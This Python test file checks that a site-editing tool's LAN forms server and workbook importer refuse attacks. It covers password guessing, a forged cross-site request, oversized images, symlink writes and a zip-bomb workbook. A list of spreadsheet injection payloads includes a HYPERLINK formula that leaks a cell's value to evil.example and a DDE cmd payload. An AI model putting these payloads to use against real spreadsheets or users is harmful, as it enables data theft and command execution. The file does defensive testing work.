"""Attacks on the editing tools that need no browser (issue 24): password guessing against the LAN
forms server, formulas carried out in workbooks, oversized workbooks and a zip bomb, a dry run
through a dangling symlink, a progressive 196-megapixel JPEG. Each asserts the refusal and that
nothing was written. The browser-driven attacks on the preview are in tests/browser/test_attacks.py;
the direct request to the file-writing process in tests/test_forms_config.py."""

from __future__ import annotations

import base64
import hashlib
import http.client
import json
import logging
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest

from campaignkit.editing import forms as admin
from campaignkit.editing import lan_forms_server as formserver
from tests.conftest import PROJECT, SAMPLE_CONTENT


def snapshot(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "dir"
        for p in sorted(folder.rglob("*"))
    }


# --------------------------------------------------------------------------- the LAN forms server


def _get(port: int, path: str, password: str | None) -> int:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        headers = {}
        if password is not None:
            headers["Authorization"] = "Basic " + base64.b64encode(f"editor:{password}".encode()).decode()
        conn.request("GET", path, headers=headers)
        reply = conn.getresponse()
        reply.read()
        return reply.status
    finally:
        conn.close()


@pytest.mark.slow
def test_guessing_the_lan_password_is_slowed_then_locked_out_and_logged(tmp_path, monkeypatch, caplog):
    monkeypatch.setenv(admin.PASSWORD_VARIABLE, "the right password")
    content = tmp_path / "content"
    shutil.copytree(SAMPLE_CONTENT, content)
    (tmp_path / "site").mkdir()
    (tmp_path / "site/index.html").write_text("<p>首页</p>", encoding="utf-8")
    server = formserver.FormServer(admin.AdminRoutes(content), tmp_path / "site", "127.0.0.1", 0)
    server.start_in_thread()
    port = server.httpd.server_address[1]
    statuses: list[int] = []
    start = time.monotonic()
    try:
        assert _get(port, "/", "the right password") == 200
        # CSRF after login: the browser adds the password to another site's form POST by itself
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
        auth = "Basic " + base64.b64encode(b"editor:the right password").decode()
        forged = json.dumps({"action": "deleteFiles", "params": {"branch": "main", "paths": ["site.yml"]}}) + "=x"
        conn.request(
            "POST", admin.API, forged, {"Authorization": auth, "Content-Type": "text/plain", "Origin": "http://evil.example"}
        )
        reply = conn.getresponse()
        assert reply.status == 403 and "只接受内容表单自己页面发来的请求" in json.loads(reply.read())["error"]
        conn.close()
        assert (content / "site.yml").exists()

        def guess(n: int) -> None:
            statuses.append(_get(port, "/admin/config.yml", f"guess-{n}"))

        with caplog.at_level(logging.WARNING, logger="campaignkit.forms"):
            threads = [threading.Thread(target=guess, args=(n,)) for n in range(200)]
            for t in threads:
                t.start()
            for t in threads:
                t.join()
            took = time.monotonic() - start
            locked_out = _get(port, "/", "the right password")  # the right one, from the same address
    finally:
        server.shutdown()
    assert statuses.count(401) <= formserver.LOCK_AFTER + 8  # a few in flight when the lock fell
    assert statuses.count(429) >= 200 - formserver.LOCK_AFTER - 8 and set(statuses) <= {401, 429}
    assert locked_out == 429  # locked out: the attacker cannot keep trying
    assert took > 1.0  # wrong passwords were answered slowly (500 took 0.33 s before)
    messages = [r.getMessage() for r in caplog.records]
    assert any("密码错误" in m and "127.0.0.1" in m for m in messages)
    assert any("已锁定 15 分钟" in m for m in messages)


def test_the_lan_mode_says_the_password_travels_unencrypted():
    text = formserver.PLAIN_HTTP_WARNING
    assert "明文" in text and "ssh -L" in text and "HTTPS" in text and "nginx" in text


# --------------------------------------------------------------------------- workbooks

FORMULAS = ['=HYPERLINK("http://evil.example/?"&B3,"点这里")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _cell_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_no_exported_or_template_cell_is_a_formula_whatever_the_content_says(tmp_path):
    from openpyxl import load_workbook

    from campaignkit.editing import workbook_io as sheets

    content = tmp_path / "content"
    shutil.copytree(SAMPLE_CONTENT, content)
    for n, path in enumerate(sorted((content / "enterprises").glob("*.yml"))[:4]):
        text = path.read_text(encoding="utf-8")
        name = next(line for line in text.splitlines() if line.startswith("name:"))
        path.write_text(text.replace(name, "name: " + json.dumps(FORMULAS[n], ensure_ascii=False)), encoding="utf-8")
    before = snapshot(content)
    for book in sheets.BOOKS.values():
        for kind, wb in (("export", sheets.export(book, content)), ("template", sheets.template(book, content))):
            out = tmp_path / f"{kind}-{book.title}.xlsx"
            sheets.save(wb, out)
            xml = _cell_xml(out)
            assert "<f>" not in xml and "<f " not in xml, (kind, book.title)  # no formula in any sheet, hidden 可选值 included
            cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
            assert not [c for c in cells if c.data_type == "f"]
            if (kind, book.title) in (("export", "花名册"), ("export", "隐患台账"), ("template", "隐患台账")):  # the names
                values = {c.value for c in cells}
                assert set(FORMULAS) <= values, (kind, book.title)
    assert snapshot(content) == before


# The process's own peak resident memory (VmHWM, kB). Not getrusage's ru_maxrss: Linux keeps the
# high-water mark of the memory a process was forked with across exec, so a child of a large test
# process (pytest at 750 MB late in a full run) would report its parent's size.
PEAK_KB = "next(int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM:'))"


def _import_measured(workbook: Path, content: Path) -> tuple[int, float, float, str]:
    """`build.py import` in a fresh process: (exit status, seconds, peak MB, what it printed)."""
    code = (
        "import sys\n"
        "from campaignkit.commandline.main import main\n"
        "status = main(sys.argv[1:])\n"
        f"sys.stderr.write('\\nPEAK_KB %d\\n' % {PEAK_KB})\n"
        "sys.exit(status)\n"
    )
    start = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", code, "import", str(workbook), "--content", str(content)],
        cwd=content.parent,
        env={**os.environ, "PYTHONPATH": str(PROJECT)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    took = time.monotonic() - start
    peak = int(done.stderr.rsplit("PEAK_KB ", 1)[1].split()[0]) / 1024
    return done.returncode, took, peak, done.stdout + done.stderr


def _register(tmp_path: Path, content: Path):
    from campaignkit.editing import workbook_io as sheets

    return sheets.template(sheets.BOOKS["花名册"], content), sheets.BOOKS["花名册"].sheet


def _one_far_cell(tmp_path: Path, content: Path, ref: str, drop_dimension: bool) -> Path:
    wb, sheet = _register(tmp_path, content)
    wb[sheet][ref] = "x"
    path = tmp_path / f"far-{ref}.xlsx"
    wb.save(path)
    if drop_dimension:  # the streaming check, not the declared size, must find it
        _rewrite(path, lambda name, data: re.sub(rb"<dimension [^>]*/>", b"", data) if "worksheets" in name else data)
    return path


def _rewrite(path: Path, change) -> None:
    with zipfile.ZipFile(path) as z:
        parts = [(i, change(i.filename, z.read(i))) for i in z.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in parts:
            z.writestr(info.filename, data)


def _many_rows(tmp_path: Path, content: Path) -> Path:
    wb, sheet = _register(tmp_path, content)
    ws = wb[sheet]
    for n in range(2, 20_002):
        ws.cell(n, 1, f"qiye-{n}")
        ws.cell(n, 2, f"示例企业{n}有限公司")
    path = tmp_path / "rows.xlsx"
    wb.save(path)
    return path


def _zip_bomb(tmp_path: Path, content: Path) -> Path:
    """A register whose worksheet inflates to 400 MB (spaces between two cells): 400 KB on disk."""
    wb, _ = _register(tmp_path, content)
    path = tmp_path / "bomb.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        parts = [(i.filename, z.read(i)) for i in z.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in parts:
            if name == "xl/worksheets/sheet2.xml":
                head, tail = data.split(b"<sheetData>", 1)
                with z.open(name, "w", force_zip64=True) as out:
                    out.write(head + b"<sheetData>")
                    for _ in range(400):
                        out.write(b" " * 1_000_000)
                    out.write(tail)
            else:
                z.writestr(name, data)
    assert path.stat().st_size < 1_000_000
    return path


@pytest.mark.slow
@pytest.mark.parametrize(
    "make, limit",
    [
        (lambda t, c: _one_far_cell(t, c, "A1048576", drop_dimension=False), "最多 5000 行"),
        (lambda t, c: _one_far_cell(t, c, "A1048576", drop_dimension=True), "最多 5000 行"),
        (lambda t, c: _one_far_cell(t, c, "XFD1048576", drop_dimension=False), "最多"),
        (_many_rows, "最多 5000 行"),
        (_zip_bomb, "最多 50 MB"),
    ],
    ids=["A1048576", "A1048576-undeclared", "XFD1048576", "20000-rows", "zip-bomb"],
)
def test_an_oversized_workbook_is_refused_quickly_and_cheaply(tmp_path, make, limit):
    content = tmp_path / "content"
    shutil.copytree(SAMPLE_CONTENT, content)
    workbook = make(tmp_path, content)
    before = snapshot(content)
    status, took, peak, said = _import_measured(workbook, content)
    assert status == 1 and limit in said and "Traceback" not in said, said
    assert took < 10, took
    assert peak < 300, peak
    assert snapshot(content) == before


@pytest.mark.slow
def test_a_dry_run_never_writes_through_a_dangling_link(tmp_path):
    """content/cases/<new id>.yml and a photo's place are links to a file outside that does not exist
    yet: neither the dry run nor --apply writes there."""
    from campaignkit.editing import workbook_io as sheets

    content = tmp_path / "content"
    shutil.copytree(SAMPLE_CONTENT, content)
    outside = tmp_path / "outside"
    outside.mkdir()
    (content / "cases/xin-anli.yml").symlink_to(outside / "planted.yml")
    (content / "media/cases/xin-before.jpg").symlink_to(outside / "planted.jpg")
    camera = tmp_path / "camera"
    camera.mkdir()
    shutil.copyfile(next((SAMPLE_CONTENT / "media/cases").glob("*.jpg")), camera / "xin-before.jpg")
    wb = sheets.template(sheets.BOOKS["隐患台账"], content)
    ws = wb[sheets.BOOKS["隐患台账"].sheet]
    header = [c.value for c in ws[1]]
    row = {
        "编号": "xin-anli",
        "标题": "楼道里给电动车充电",
        "发现日期": "2024-03-05",
        "公开显示的地点": "共建区某企业",
        "隐患类型": "飞线充电",
        "风险等级": "风险高",
        "整改状态": "已发现",
        "整改前照片": "xin-before.jpg",
        "整改前照片说明": "楼道里的电动车",
    }
    for key, value in row.items():
        ws.cell(2, header.index(key) + 1, value)
    book = tmp_path / "台账.xlsx"
    sheets.save(wb, book)
    before = snapshot(content)
    result = sheets.import_book(book, content, camera)
    assert list(outside.iterdir()) == []  # nothing written out of content/
    assert result.problems and any(sheets.LINKED in p for p in result.problems), result.problems
    assert snapshot(content) == before


# --------------------------------------------------------------------------- photos


def _in_fresh_process(code: str, cwd: Path) -> tuple[str, float]:
    """Run `code` in a new Python process; (what it printed, its peak memory in MB)."""
    wrapped = code + f"\nimport sys\nsys.stderr.write('PEAK_KB %d\\n' % {PEAK_KB})\n"
    done = subprocess.run(
        [sys.executable, "-c", wrapped],
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(PROJECT)},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout, int(done.stderr.rsplit("PEAK_KB ", 1)[1].split()[0]) / 1024


@pytest.mark.slow
def test_no_photo_costs_more_than_500_mb_to_inspect_or_publish(tmp_path):
    """A progressive 196-megapixel JPEG is refused with a Chinese message before it is decoded; a
    49-megapixel PNG and a progressive 60-megapixel JPEG are accepted and published, each under
    500 MB (before: 1,159 MB to inspect the first, 820 MB to publish the second)."""
    make = (
        "from PIL import Image\n"
        "Image.new('L', (14000, 14000), 128).save('progressive-196mp.jpg', quality=80, progressive=True)\n"
        "Image.new('RGB', (9500, 6300), (200, 80, 40)).save('progressive-60mp.jpg', quality=80, progressive=True)\n"
        "Image.new('RGBA', (7000, 7000), (20, 120, 200, 128)).save('big-49mp.png', compress_level=1)\n"
    )
    _in_fresh_process(make, tmp_path)  # made in a process of its own: its memory is not measured
    cache = tmp_path / "cache"
    before = {p.name for p in tmp_path.iterdir()}

    inspect = (
        "import os\n"
        "from campaignkit.content import photos\n"
        "print(photos.inspect_image('progressive-196mp.jpg', os.path.getsize('progressive-196mp.jpg'), 0))\n"
    )
    said, peak = _in_fresh_process(inspect, tmp_path)
    assert "渐进式 JPEG 图片太大（14000×14000 像素）" in said and "普通 JPEG" in said
    assert peak < 500, peak
    assert {p.name for p in tmp_path.iterdir()} == before  # nothing written

    for name in ("progressive-60mp.jpg", "big-49mp.png"):
        publish = (
            "import os\n"
            "from pathlib import Path\n"
            "from campaignkit.content import photos\n"
            f"assert photos.inspect_image({name!r}, os.path.getsize({name!r}), 0) is None\n"
            f"print([(r.width, r.height) for r in photos.publish_photo(Path({name!r}), Path({str(cache)!r}))])\n"
        )
        said, peak = _in_fresh_process(publish, tmp_path)
        assert said.strip().startswith("[(480,") and "(960," in said, said
        assert peak < 500, (name, peak)


def test_an_import_reads_a_formula_as_its_cached_value_never_its_text(tmp_path):
    from openpyxl import load_workbook

    from campaignkit.editing import workbook_io as sheets

    content = tmp_path / "content"
    shutil.copytree(SAMPLE_CONTENT, content)
    book = sheets.BOOKS["花名册"]
    path = tmp_path / "花名册.xlsx"
    sheets.save(sheets.export(book, content), path)
    ws = load_workbook(path)[book.sheet]
    header = [c.value for c in ws[1]]
    name_column = header.index("企业名称") + 1
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == "hengshun-wuliu")
    ref = f"{ws.cell(row, name_column).column_letter}{row}"
    name = ws.cell(row, name_column).value

    def as_formula(part: str, data: bytes) -> bytes:  # what Excel saves: the formula and its last result
        if part != "xl/worksheets/sheet2.xml":
            return data
        cell = f'<c r="{ref}" t="str"><f>CONCAT("{name[:2]}","{name[2:]}")</f><v>{name}</v></c>'.encode()
        return re.sub(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)'.encode(), cell, data, count=1, flags=re.S)

    _rewrite(path, as_formula)
    assert b"<f>CONCAT" in zipfile.ZipFile(path).read("xl/worksheets/sheet2.xml")
    result = sheets.import_book(path, content)
    assert result.problems == []
    (change,) = [c for c in result.changes if c.relpath.endswith("hengshun-wuliu.yml")]
    assert change.action == "same"  # read as the cached name, not as =CONCAT(…)


def test_a_workbook_check_that_takes_too_long_stops_with_the_limit_named(tmp_path, monkeypatch):
    from campaignkit.common.problems import BuildError
    from campaignkit.editing import workbook_io as sheets
    from campaignkit.editing import workbook_limits

    path = tmp_path / "花名册.xlsx"
    sheets.save(sheets.template(sheets.BOOKS["花名册"], SAMPLE_CONTENT), path)
    workbook_limits.check(path)  # a template passes every limit
    monkeypatch.setattr(workbook_limits, "MAX_SECONDS", 0.0)
    with pytest.raises(BuildError) as refused:
        workbook_limits.check(path)
    assert "花名册.xlsx: 检查表格用了 0 秒还没完成（最多 0 秒）" in refused.value.message
